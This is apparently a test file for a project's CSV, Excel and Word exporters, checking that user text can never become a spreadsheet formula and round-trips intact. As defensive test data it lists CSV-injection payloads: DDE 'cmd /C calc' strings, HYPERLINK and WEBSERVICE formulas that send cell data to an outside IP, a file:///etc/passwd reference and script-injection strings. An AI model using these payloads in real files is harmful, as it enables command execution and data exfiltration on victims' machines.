"""No cell of an export can be taken for a formula, and nothing is lost by that."""

import csv
import io
import re
import unicodedata
import zipfile
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from sightline.domain.watermark import Mark
from sightline.exchange.exporters import EXPORTERS
from sightline.exchange.exporters.cell_text import plain_text, safe_text, said, sayable
from sightline.exchange.exporters.tables import Column, Export, Table
from sightline.exchange.exporters.watermarked import watermarked
from sightline.exchange.importers.sandbox import read_action_plan_in_sandbox
from sightline.reports import tree as report
from sightline.reports.renderers.docx import render_docx
from tests.integration.exchange.exporters.invented_export import (
    HARMLESS_TEXTS,
    HOSTILE_TEXTS,
    TITLES,
    invented_export,
)

DANGEROUS_TEXT = st.text(st.sampled_from("=+-@'＝－\t\r\n\0 \u00a0\u200b_x0041a")) | st.text()


def is_formula_to_some_program(cell: str) -> bool:
    if cell[:1] in ("\t", "\r", "\n", "\0") and cell:
        return True
    visible = [character for character in cell if unicodedata.category(character)[0] not in "ZC"]
    return bool(visible) and unicodedata.normalize("NFKC", visible[0])[0] in "=+-@"


@given(DANGEROUS_TEXT)
def test_a_safe_text_is_never_a_formula_and_comes_back_whole(text: str) -> None:
    safe = safe_text(text)

    assert not is_formula_to_some_program(safe)
    assert plain_text(safe) == text


@given(DANGEROUS_TEXT)
def test_what_xml_cannot_hold_comes_back_whole(text: str) -> None:
    assert said(sayable(text)) == text


def test_ordinary_words_are_left_alone() -> None:
    assert [safe_text(text) for text in HARMLESS_TEXTS] == list(HARMLESS_TEXTS)


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_csv_cells_are_safe(text: str) -> None:
    written = EXPORTERS["csv"](invented_export((text,))).decode("utf-8-sig")

    cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]

    assert not [cell for cell in cells if is_formula_to_some_program(cell)]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_excel_cells_are_words_that_stay_words(text: str) -> None:
    workbook = load_workbook(io.BytesIO(EXPORTERS["xlsx"](invented_export((text,)))))

    cell = workbook["Action plan"]["C2"]

    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert not is_formula_to_some_program(said(cell.value))


def test_a_hostile_title_and_note_are_safe_in_excel() -> None:
    export = invented_export()
    hostile = type(export)(export.kind, "=1+1", export.about, ("@SUM(A1)",), export.tables)

    workbook = load_workbook(io.BytesIO(EXPORTERS["xlsx"](hostile)))

    kinds = {cell.data_type for sheet in workbook for row in sheet for cell in row if cell.value is not None}
    assert "f" not in kinds


@pytest.mark.parametrize("texts", [HOSTILE_TEXTS, HARMLESS_TEXTS])
def test_an_exported_workbook_comes_back_as_it_was(texts: tuple[str, ...]) -> None:
    export = invented_export(texts)

    returned = read_action_plan_in_sandbox(EXPORTERS["xlsx"](export), titles=TITLES, key="action_id")

    assert returned.problems == ()
    assert [row.cells["text"] or "" for row in returned.rows] == list(texts)
    assert [row.cells["due_on"] for row in returned.rows] == [row[4] for row in export.tables[0].rows]
    assert returned.about["review_id"] == "review-1"


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_watermark_makes_no_cell_a_formula(text: str, extension: str) -> None:
    by = Mark("CMD12340", "=cmd|' /C calc'!A0", datetime(2031, 1, 31, 9, 30, tzinfo=UTC))
    written = EXPORTERS[extension](watermarked(invented_export((text,)), by, hides=True))

    if extension == "csv":
        lines = csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))
        cells = [cell for line in lines for cell in line]
    else:
        shown = [cell for sheet in load_workbook(io.BytesIO(written)) for line in sheet for cell in line]
        assert "f" not in {cell.data_type for cell in shown}
        cells = [said(cell.value) for cell in shown if cell.data_type == "s"]
    assert not [cell for cell in cells if is_formula_to_some_program(cell)]


BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n+", "\0=", "＝", " \u200b=")
BODIES = (
    "1+1",
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'HYPERLINK("http://203.0.113.9/?"&A1,"Press")',
    'WEBSERVICE("http://203.0.113.9/"&A1)',
    'IMPORTXML("http://203.0.113.9/","//a")',
    'DDE("cmd";"/C calc";"x")',
    "'file:///etc/passwd'#$A.A1",
    'INDIRECT("A1")',
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
)
PAYLOADS = tuple(f"{beginning}{body}" for beginning in BEGINNINGS for body in BODIES)


def everywhere(payload: str) -> Export:
    """An export with a text in each place that somebody's words can come to; heads are our own."""
    columns = (Column("text", "Action", 20), Column("more", "Owner", 20, choices=(payload,)))
    table = Table("t", "Plan", columns, ((payload, payload), (payload, (payload, payload))))
    return Export("action_plan", payload, (("about", payload),), (payload,), (table,), payload)


@pytest.mark.parametrize("beginning", BEGINNINGS, ids=map(repr, BEGINNINGS))
def test_a_payload_is_a_formula_in_no_place_of_a_csv_file(beginning: str) -> None:
    for payload in (each for each in PAYLOADS if each.startswith(beginning)):
        written = EXPORTERS["csv"](everywhere(payload)).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
        assert len(cells) > 4
        assert [cell for cell in cells if is_formula_to_some_program(cell)] == []


@pytest.mark.parametrize("beginning", BEGINNINGS, ids=map(repr, BEGINNINGS))
def test_a_payload_is_a_formula_in_no_place_of_a_workbook(beginning: str) -> None:
    for payload in (each for each in PAYLOADS if each.startswith(beginning)):
        with zipfile.ZipFile(io.BytesIO(EXPORTERS["xlsx"](everywhere(payload)))) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        sheets = b"".join(data for name, data in parts.items() if "worksheets/sheet" in name)
        assert b"<sheetData>" in sheets
        assert re.findall(rb"<f[ >]|<hyperlink", sheets) == []
        assert [name for name in parts if "externalLink" in name or "connections" in name] == []
        assert [name for name, data in parts.items() if b'TargetMode="External"' in data] == []


def test_a_payload_is_words_in_every_place_of_a_word_file() -> None:
    for payload in PAYLOADS:
        table = report.Table(payload, (report.Column(payload),), ((payload,),))
        blocks = (report.Heading(payload), report.Paragraph(payload), report.BulletList((payload,)), table)
        written = render_docx(report.Document(title=payload, blocks=blocks, footer=payload))
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        whole = b"".join(data for name, data in parts.items() if name.startswith("word/"))
        assert set(re.findall(rb"<w:instrText[^>]*>([^<]*)<", whole)) <= {b"PAGE"}
        assert set(re.findall(rb'<w:fldSimple[^>]*instr="([^"]*)"', whole)) <= {b"PAGE"}
        assert re.findall(rb"<w:hyperlink|<w:altChunk|<script", whole) == []
        assert [name for name, data in parts.items() if b'TargetMode="External"' in data] == []
